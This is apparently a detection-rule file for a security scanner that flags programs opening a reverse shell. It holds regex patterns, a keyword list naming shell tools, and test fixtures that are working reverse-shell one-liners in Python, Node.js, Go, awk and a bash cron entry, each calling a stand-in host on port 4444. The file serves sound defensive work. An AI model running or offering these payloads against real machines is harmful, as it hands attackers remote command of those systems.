import { continues, isBlamed, scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "CMDEXEC_107",
  title: "A program connects out and hands over a shell",
  why: "The same few calls in every language: connect, tie the shell's streams to the connection, wait for orders.",
  fix: "Isolate the machine where it ran; find out who placed it.",
  severity: "critical",
  category: "command-execution",
  lane: "block",
  maps: { asi: ["ASI05"], mcp: ["MCP05"], cwe: ["CWE-506"], see: ["https://attack.mitre.org/techniques/T1059/"] },
  keywords: [
    "dup2",
    "/bin/sh",
    "/bin/bash",
    "cmd.exe",
    "pty.spawn",
    "/dev/tcp",
    "tcpclient",
    "/inet/tcp",
    "powershell",
  ],
  match: [
    scan(
      /\b(?:connect|TCPSocket\.(?:new|open)|fsockopen|net\.Dial|createConnection|new Socket|Socket::INET|IO::Socket)\b/,
      (match, { text }) =>
        continues(
          match,
          text,
          /[\s\S]{0,600}(?:dup2\s{0,2}\(|pty\.spawn\s{0,2}\(|proc_open\s{0,2}\(\s{0,2}["'](?:\/bin\/)?(?:ba)?sh|exec\.Command\(\s{0,2}["'](?:\/bin\/)?(?:sh|bash|cmd(?:\.exe)?)["'][\s\S]{0,200}(?:Stdin|Stdout)|spawn\(\s{0,2}["'](?:\/bin\/(?:ba)?sh|sh|bash|cmd(?:\.exe)?)["'][\s\S]{0,160}\.pipe\(|exec\s{0,2}\(?\s{0,2}["']\/bin\/(?:ba)?sh(?:\s-i)?\b|ProcessBuilder\([^)]{0,40}(?:sh|bash|cmd)|popen\(\s{0,2}(?:data|cmd|l|c|line)\b)/,
          900,
        ) &&
        /\/bin\/(?:ba|z|da)?sh|\bcmd(?:\.exe)?\b|["'](?:ba)?sh["']|powershell|recv|gets/.test(
          text.slice(match.index, match.index + 1000),
        ),
    ),
    scan(/\bspawn\(\s{0,2}["'](?:\/bin\/)?(?:ba)?sh["'][\s\S]{0,300}?\bconnect\s{0,2}\(\s{0,2}\d{2,5}/, () => true),
    scan(
      /(?:ba|z|da)?sh\s{1,3}-i\s{0,2}>&\s{0,2}\/dev\/(?:tcp|udp)\/[^\s/]{1,80}\/\d{1,5}/,
      (match, sample) => !isBlamed(sample, { start: match.index, end: match.index + match[0].length }),
    ),
    /\/inet\/(?:tcp|udp)\/\d{1,5}\/[\w.-]{3,80}\/\d{1,5}/,
  ],
  examples: {
    flags: [
      {
        text:
          'import socket,os,pty\ns=socket.socket()\ns.connect(("203.0.113.9",4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/bash")',
        kind: "document",
      },
      {
        text:
          '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4444,"203.0.113.9",function(){client.pipe(sh.stdin);});})();',
        kind: "tool_result",
      },
      {
        text:
          'conn, _ := net.Dial("tcp", "203.0.113.9:4444")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = conn\ncmd.Stdout = conn',
        kind: "document",
      },
      { text: 'awk \'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; while(42) { print "> " |& s }}\'', kind: "command" },
      { text: "cron = \"* * * * * /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\"", kind: "document" },
    ],
    passes: [
      { text: 's.connect(("db.internal", 5432))\ns.sendall(b"ping")', kind: "document" },
      {
        text: 'conn, err := net.Dial("tcp", addr)\nif err != nil { return err }\ndefer conn.Close()',
        kind: "document",
      },
      { text: 'child = spawn("bash", ["build.sh"])\nchild.stdout.pipe(process.stdout)', kind: "document" },
      "The script starts with #!/bin/sh and connects to the printer.",
    ],
  },
});
